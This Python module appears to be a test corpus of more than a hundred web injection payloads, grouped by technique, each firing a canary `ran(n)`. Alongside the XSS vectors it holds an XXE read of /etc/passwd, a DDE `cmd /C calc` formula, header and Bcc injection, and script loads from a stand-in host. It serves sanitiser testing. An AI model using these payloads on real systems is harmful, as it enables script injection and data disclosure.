r"""Script injection, in our own arrangement: more than a hundred ways in which a text tries to be run.

Each calls `ran(n)`, where `n` is its place in the list, as soon as anything takes it for more than a text. `PAYLOADS`
are grouped by what they count on; `{n}` stands for the number. Short ones fit the shortest fields.
"""

GROUPED = {
    "tags": [
        "<script>ran({n})</script>",
        "<script>ran({n})//",
        "<ScRiPt >ran({n})</sCrIpT\t>",
        "<script/x>ran({n})</script>",
        "<script\n>ran({n})</script>",
        "<<script>ran({n})//<</script>",
        "<scr<script>ipt>ran({n})</scr</script>ipt>",
        "<script src=//x.invalid/{n}.js></script>",
        "<script src=data:,ran({n})></script>",
        "<script type=module>ran({n})</script>",
        "<script>ran`{n}`</script>",
        "<script>/*\u2028*/ran({n})</script>",
        "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
        "<iframe src=javascript:parent.ran({n})></iframe>",
        "<object data=javascript:ran({n})>",
        "<embed src=data:text/html,<script>ran({n})</script>>",
        "<base href=//x.invalid/>",
        "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
        "<link rel=stylesheet href=//x.invalid/{n}.css>",
        "<form action=javascript:ran({n})><button>{n}</button></form>",
        "<isindex action=javascript:ran({n}) type=submit>",
        "<plaintext>{n}",
    ],
    "event handlers": [
        "<img src=x onerror=ran({n})>",
        "<img/src/onerror=ran({n})>",
        "<img src=x:x onerror\n=\nran({n})>",
        '<img src="x` `"` onerror=ran({n})">',
        "<body onload=ran({n})>",
        "<body onpageshow=ran({n})>",
        "<input autofocus onfocus=ran({n})>",
        "<select autofocus onfocus=ran({n})>",
        "<textarea autofocus onfocus=ran({n})>",
        "<details open ontoggle=ran({n})>",
        "<video><source onerror=ran({n})></video>",
        "<audio src=x onerror=ran({n})>",
        "<marquee onstart=ran({n})>",
        "<style onload=ran({n})></style>",
        "<p style=animation:x onanimationstart=ran({n})>",
        "<a href=# onclick=ran({n})>{n}</a>",
        "<b onpointerenter=ran({n})>{n}</b>",
        "<object data=x onerror=ran({n})></object>",
    ],
    "out of an attribute": [
        '" onfocus=ran({n}) autofocus x="',
        "' onfocus=ran({n}) autofocus x='",
        '" onmouseover="ran({n})',
        '"><img src=x onerror=ran({n})>',
        "'><img src=x onerror=ran({n})>",
        '"/><script>ran({n})</script>',
        " onfocus=ran({n}) autofocus ",
        '" style="background:url(javascript:ran({n}))',
        "` onerror=ran({n}) `",
        '&quot; onfocus=ran({n}) autofocus x=&quot;',
        '&#34;&#62;<svg onload=ran({n})>',
        '\\"><svg onload=ran({n})>',
    ],
    "out of an element": [
        "</title><script>ran({n})</script>",
        "</textarea><script>ran({n})</script>",
        "</style><script>ran({n})</script>",
        "</option></select><img src=x onerror=ran({n})>",
        "</noscript><img src=x onerror=ran({n})>",
        "</bdi></p></main><img src=x onerror=ran({n})>",
        "--><script>ran({n})</script>",
        "--!><img src=x onerror=ran({n})>",
        "<!--><img src=x onerror=ran({n})>-->",
        "<!-- {n}",
        "<![CDATA[<script>ran({n})</script>]]>",
        "<?x ><img src=x onerror=ran({n})>",
    ],
    "SVG and MathML": [
        "<svg onload=ran({n})>",
        "<svg/onload=ran({n})>",
        "<svg><script>ran({n})</script></svg>",
        "<svg><script>ran&#40;{n})</script></svg>",
        "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
        "<svg><set onbegin=ran({n}) attributeName=x>",
        "<svg><a xlink:href=javascript:ran({n})><text y=9>{n}</text></a></svg>",
        "<svg><use href=data:image/svg+xml,<svg/>></svg>",
        "<svg><foreignObject><body onload=ran({n})></foreignObject></svg>",
        "<math href=javascript:ran({n})>{n}</math>",
        "<math><mi xlink:href=data:x,<script>ran({n})</script>>",
    ],
    "mutated while it is read again": [
        "<noscript><p title='</noscript><img src=x onerror=ran({n})>'>",
        "<svg></p><style><a id='</style><img src=x onerror=ran({n})>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=ran({n})>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran({n})>",
        "<listing>&lt;img src=x onerror=ran({n})&gt;</listing>",
        "<template><script>ran({n})</script></template>",
        "<select><template><img src=x onerror=ran({n})></template></select>",
        "<xmp><p title='</xmp><img src=x onerror=ran({n})>'>",
    ],
    "addresses": [
        "javascript:ran({n})",
        "JaVaScRiPt:ran({n})",
        "java\tscript:ran({n})",
        "java\nscript:ran({n})",
        "\x01javascript:ran({n})",
        " javascript:ran({n})",
        "javascript&colon;ran({n})",
        "javascript&#58;ran({n})",
        "&#106;avascript:ran({n})",
        "javascript://x.invalid/%0Aran({n})",
        "https://x.invalid/\n\njavascript:ran({n})",
        "data:text/html,<script>ran({n})</script>",
        "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=={n}",
        "vbscript:ran({n})",
        "view-source:javascript:ran({n})",
        "//x.invalid/{n}",
        "https:\\\\x.invalid\\{n}",
    ],
    "templates": [
        "{{ request.META }}{n}",
        "{{ n|safe }}{% debug %}{n}",
        "{% include 'admin/base.html' %}{n}",
        "{% autoescape off %}<b>{n}</b>{% endautoescape %}",
        "{# {n}",
        "%(title)s %s %% {n}",
        "{0.__class__} {x!r} {n}",
        "${{ran({n})}} #{{ran({n})}} <%= {n} %>",
    ],
    "linked data, scripts": [
        '</script><script>ran({n})</script>',
        '"}}</script><svg onload=ran({n})>',
        '\\u003c/script>\\u003cscript>ran({n})',
        '"-ran({n})-"',
        "';ran({n});//",
        "\\';ran({n});//",
        "\u2028ran({n})//\u2029",
        "<!--<script>ran({n})",
        '{{"@type": "Person", "n": {n}}}',
    ],
    "feeds and files": [
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>ran({n})</script>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{n}",
        "<?xml-stylesheet href='javascript:ran({n})'?>",
        "&undefined; &amp;lt;script&amp;gt; {n}",
        "&lt;script&gt;ran({n})&lt;/script&gt;",
        "=HYPERLINK(\"javascript:ran({n})\")",
        "=cmd|' /C calc'!A{n}",
        "+ran({n})",
        "-ran({n})",
        "@ran({n})",
        "\t=1+{n}",
        "\r=1+{n}",
        "\\input{{x}}{n}}}",
        "}}, title = {{{n}",
        "TI  - {n}\r\nER  - \r\n",
        "[{n}](javascript:ran({n}))",
        "![{n}](x){{onload=ran({n})}}",
        "| {n} | <br> |",
    ],
    "headers and mails": [
        "{n}\r\nBcc: x@x.invalid",
        "{n}\r\n\r\n<script>ran({n})</script>",
        "{n}\nSet-Cookie: ran={n}",
        "=?utf-8?q?=0aBcc:x?= {n}",
        "\"{n}\" <x@x.invalid>",
    ],
    "styles": [
        "x{{background:url(//x.invalid/{n})}}",
        "<style>@import '//x.invalid/{n}';</style>",
        "</style><style>*{{display:none}}{n}",
        "expression(ran({n}))",
        "<p style=position:fixed;inset:0>{n}",
    ],
    "letters": [
        "\uff1cscript\uff1eran({n})\uff1c/script\uff1e",
        "\u02bascript\u02ba \uff02onfocus=ran({n}) {n}",
        "\ufeff<script>ran({n})</script>",
        "+ADw-script+AD4-ran({n})+ADw-/script+AD4-",
        "\u202e<script>ran({n})</script>",
        "\u2066<img src=x onerror=ran({n})>",
        "\u200b<svg onload=ran({n})>",
        "<\u0130mg src=x onerror=ran({n})>",
        "<ſcript>ran({n})</ſcript>",
        "\x7f<script>ran({n})</script>",
        "\x0b<svg\x0conload=ran({n})>",
        "\ud7ff\ufffd<b>{n}</b>",
        "%3Cscript%3Eran({n})%3C/script%3E",
        "\\x3cscript\\x3eran({n})",
        "<b>{n}</b>",
        "<a{n}>",
        "&{n};",
        "&#{n}",
        "'\"<>&{n}",
    ],
}  # fmt: skip
"""Payloads under what they count on; braces that stand twice there stand once in the payload."""


def _numbered() -> list[str]:
    texts = [text for group in GROUPED.values() for text in group]
    return [
        text.replace("{{", "\0").replace("}}", "\1").replace("{n}", str(number)).replace("\0", "{").replace("\1", "}")
        for number, text in enumerate(texts)
    ]


PAYLOADS = _numbered()
SIGNS = dict.fromkeys(map(ord, "<>\"'`&=\\{}%#\uff1c\uff1e\uff02"), "·")
"""What makes markup of a text; the rest of it is left, so that the same words are found in it."""


def harmless(payload: str) -> str:
    """The same text without any sign that could be markup: as long, with the same lines and the same directions."""
    return payload.translate(SIGNS)


def fitting(most: int) -> list[str]:
    """The payloads that a field of `most` letters takes; every field takes some."""
    return [payload for payload in PAYLOADS if len(payload) <= most]
